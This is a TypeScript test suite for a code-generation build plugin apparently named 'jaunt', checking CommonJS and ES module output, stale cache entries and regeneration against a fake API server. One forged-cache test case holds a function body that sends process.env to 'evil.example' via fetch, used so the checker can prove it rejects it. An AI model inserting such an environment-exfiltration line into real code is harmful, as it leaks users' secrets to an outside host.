/**
 * Green means it runs: the code that ships is the code that was checked. `fixtures/shipped` has answers
 * that read the file's own exported `const`/`let`, build a table from the file's enum at load, restate a
 * type the file declares, use imported types only in annotations (one from a `.d.ts` with no JavaScript
 * behind it) and use a value the file imports without using it itself. Each once built green and failed
 * at run time; here each builds and runs, as CommonJS and as an ES module.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import { FixtureProject, lastJsonLine } from './support/fixture-project';
import { cleanEnv, jaunt, tspc } from './support/cli-project';
import { childEnv } from './support/fixture-project';
import { code, startFakeAnthropic } from './support/fake-anthropic';

const EXPECTED = {
  distance: 5,
  channelCode: 'rgb',
  red: 'r',
  short: ['hi', 'a rathe…'],
  calls: 2,
  heaviest: ['b', 'a', 'c'],
  // FIPS 180-2 test vector for "abc".
  digest: 'ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad',
  addVec: { dx: 4, dy: 6 },
};

type Format = 'cjs' | 'esm';

/** The fixture as the given module format, with its entries written from impl/ and its own verdict cache. */
function project(format: Format): FixtureProject {
  const p = FixtureProject.copy('shipped');
  if (format === 'esm') {
    p.write('package.json', JSON.stringify({ name: 'shipped-esm', private: true, type: 'module' }));
    p.edit('tsconfig.json', (t) => t.replace('"module": "commonjs", "moduleResolution": "node10"', '"module": "NodeNext", "moduleResolution": "NodeNext"'));
  } else {
    p.write('package.json', JSON.stringify({ name: 'shipped-cjs', private: true }));
  }
  // Verdicts are remembered under the nearest node_modules: give each project its own.
  fs.mkdirSync(p.path('node_modules'), { recursive: true });
  p.authorOffline();
  return p;
}

const check = (p: FixtureProject) => jaunt(p.dir, ['check'], childEnv());
const verdicts = (p: FixtureProject) => {
  const dir = p.path('node_modules', '.cache', 'jaunt', 'verdicts');
  return fs.existsSync(dir) ? fs.readdirSync(dir).sort() : [];
};

describe.each<Format>(['cjs', 'esm'])('%s: entries that use the file they land in', (format) => {
  let p: FixtureProject;
  beforeAll(() => {
    p = project(format);
  });
  afterAll(() => p.cleanup());

  test('build green and run: own exports, enum tables, restated types, type-only and file imports', async () => {
    const build = await p.tspc();
    expect(build.output).toBe('');
    expect(build.status).toBe(0);
    expect(lastJsonLine(await p.node('out/main.js'))).toEqual(EXPECTED);
  });

  test('the emitted module imports no type at run time and reads own exports through `exports` only under CommonJS', () => {
    const js = p.read('out/palette.js');
    expect(js).not.toMatch(/shapes|geometry-types/);
    if (format === 'cjs') expect(js).toMatch(/exports\.MAX_LEN - ELLIPSIS\.length/);
    else expect(js).toMatch(/const KEEP = MAX_LEN - ELLIPSIS\.length/);
    // The table is built after the enum it reads.
    expect(js.indexOf('const ORDER')).toBeGreaterThan(js.indexOf('Channel["Red"]'));
  });

  test('a repeat build checks nothing again: the verdict is remembered, and jaunt check agrees', async () => {
    const before = verdicts(p);
    expect(before.length).toBeGreaterThan(0);
    const build = await p.tspc();
    expect(build.status).toBe(0);
    expect(verdicts(p)).toEqual(before);
    const gate = await check(p);
    expect(gate.output).toMatch(/all 6 specs have a usable cache entry/);
    expect(gate.status).toBe(0);
  });
});

describe('an entry whose file changed around it', () => {
  let p: FixtureProject;
  beforeEach(() => {
    p = project('cjs');
  });
  afterEach(() => p.cleanup());

  test('a spec moved verbatim to a file without its import is stale, with the reason, in tspc and in jaunt check', async () => {
    const palette = p.read('src/palette.ts');
    const spec = /\/\*\*\n \* The SHA-256 digest[\s\S]*?export declare function digest\(text: string\): string;\n/.exec(palette)![0];
    p.write('src/palette.ts', palette.replace(spec, ''));
    p.write('src/digests.ts', spec);
    p.edit('src/main.ts', (t) => t.replace(' digest, ', ' ').replace("from './palette.js';", "from './palette.js';\nimport { digest } from './digests.js';"));
    const build = await p.tspc();
    expect(build.status).not.toBe(0);
    expect(build.output).toMatch(/src\/digests\.ts.*JAUNT2008: .*digest.*src\/digests\.ts no longer provides createHash/);
    const gate = await check(p);
    expect(gate.status).toBe(1);
    expect(gate.output).toMatch(/digest\s+stale \(src\/digests\.ts no longer provides createHash\)/);
    // What ships for it throws the build's error instead of a ReferenceError.
    const run = await p.node('out/main.js');
    expect(run.output).toMatch(/Jaunt has no implementation for spec 'digest': JAUNT2008/);
  });

  test('with a key, the plugin regenerates an entry its file no longer supports, with one request, and the build runs', async () => {
    const server = await startFakeAnthropic();
    try {
      server.fallback((req) => (req.spec === 'digest'
        ? code("import { createHash } from 'node:crypto';\n\nexport function digest(text: string): string {\n  return createHash('sha256').update(text, 'utf8').digest('hex');\n}\n")
        : undefined));
      p.edit('src/palette.ts', (t) => t.replace("import { createHash } from 'node:crypto';\n", ''));
      const build = await tspc(['-p', '.'], { cwd: p.dir, env: cleanEnv({ ANTHROPIC_API_KEY: 'sk-ant-test-shipped', ANTHROPIC_BASE_URL: server.url }) });
      expect(build.output).toMatch(/jaunt: generated 1, reused 5, failed 0/);
      expect(build.status).toBe(0);
      expect(server.requests.map((r) => r.spec)).toEqual(['digest']);
      expect(lastJsonLine(await p.node('out/main.js'))).toEqual(EXPECTED);
    } finally {
      await server.close();
    }
  });

  test('a project switched to ES modules rejects an entry that uses __dirname, naming the cause', async () => {
    p.write('impl/digest.ts', "import * as path from 'node:path';\nexport function digest(text: string): string {\n  return createHash('sha256').update(path.basename(__dirname) + text).digest('hex');\n}\n");
    p.authorOffline();
    expect((await p.tspc()).status).toBe(0);
    p.write('package.json', JSON.stringify({ name: 'shipped-esm', private: true, type: 'module' }));
    p.edit('tsconfig.json', (t) => t.replace('"module": "commonjs", "moduleResolution": "node10"', '"module": "NodeNext", "moduleResolution": "NodeNext"'));
    const build = await p.tspc();
    expect(build.status).not.toBe(0);
    expect(build.output).toMatch(/JAUNT2008: .*digest.*uses `__dirname`.*ES module/);
    expect((await check(p)).status).toBe(1);
  });

  test('editing a file the spec file imports re-checks it; an edit that breaks nothing costs no request and stays green', async () => {
    expect((await p.tspc()).status).toBe(0);
    const before = verdicts(p);
    p.edit('src/shapes.ts', (t) => `${t}\nexport interface Size {\n  w: number;\n}\n`);
    expect((await p.tspc()).status).toBe(0);
    expect(verdicts(p).length).toBe(before.length + 1);
  });
});

/** Cache states, each built with tspc and gated with jaunt check: one verdict, so they agree. */
describe('jaunt check passes exactly when tspc has no Jaunt error', () => {
  const entryOf = (p: FixtureProject, name: string) => p.entryOf(name);
  const forge = (p: FixtureProject, name: string, body: string) => {
    // A body with a recomputed checksum: what anyone can write, since the checksum is no signature.
    const { renderEntry, parseEntry } = require('../cache/entry-format') as typeof import('../cache/entry-format');
    const rel = entryOf(p, name);
    const parsed = parseEntry(p.read(rel));
    if (!parsed.ok) throw new Error(parsed.reason);
    p.write(rel, renderEntry(parsed.meta, body));
  };
  const cases: [string, (p: FixtureProject) => void, boolean][] = [
    ['fresh', () => undefined, true],
    ['edited by hand, still valid', (p) => p.edit(entryOf(p, 'distance'), (t) => t.replace('Math.hypot(to.x - from.x, to.y - from.y)', 'Math.sqrt((to.x - from.x) ** 2 + (to.y - from.y) ** 2)')), true],
    ['edited by hand, no longer type-checks', (p) => p.edit(entryOf(p, 'distance'), (t) => t.replace('Math.hypot(to.x - from.x, to.y - from.y)', "'far'")), false],
    ['forged checksum over a body with the wrong return type', (p) => forge(p, 'distance', 'export async function distance(a: Point, b: Point): Promise<number> {\n  return a.x - b.x;\n}\n'), false],
    ['forged checksum over two definitions', (p) => forge(p, 'shorten', 'export function shorten(t: string): string {\n  return t;\n}\nexport function shorten(t: string): string {\n  return t;\n}\n'), false],
    ['forged checksum over a body that does not parse', (p) => forge(p, 'distance', 'export function distance(a: Point, b: Point): number {\n  return (a.x;\n}\n'), false],
    ['forged checksum over a body that sends data to the network', (p) => forge(p, 'distance', "export function distance(a: Point, b: Point): number {\n  void fetch('https://evil.example/?' + JSON.stringify(process.env));\n  return Math.hypot(b.x - a.x, b.y - a.y);\n}\n"), false],
    ['forged checksum over the wrong function name', (p) => forge(p, 'distance', 'export function distanse(a: Point, b: Point): number {\n  return 0;\n}\n'), false],
  ];
  test.each(cases)('%s', async (_label, damage, ok) => {
    const p = project('cjs');
    try {
      damage(p);
      const [build, gate] = await Promise.all([p.tspc(), check(p)]);
      expect({ tspc: build.status === 0 && !/error TS99\d{4}/.test(build.output), check: gate.status === 0 }).toEqual({ tspc: ok, check: ok });
    } finally {
      p.cleanup();
    }
  });
});

test('without an entry in CI, the shipped function throws the real cause', async () => {
  const p = project('cjs');
  try {
    p.remove(p.entryOf('channelCode'));
    const build = await p.tspc();
    expect(build.output).toMatch(/JAUNT2001: spec 'channelCode'.*CI is set/);
    const run = await p.eval(`try { require('./out/palette.js').channelCode(); } catch (e) { console.log(e.message); }`);
    expect(run.stdout).toMatch(/Jaunt has no implementation for spec 'channelCode': JAUNT2001: .*CI is set, so the build never generates/);
    expect(path.basename(p.dir)).toMatch(/^shipped/);
  } finally {
    p.cleanup();
  }
});
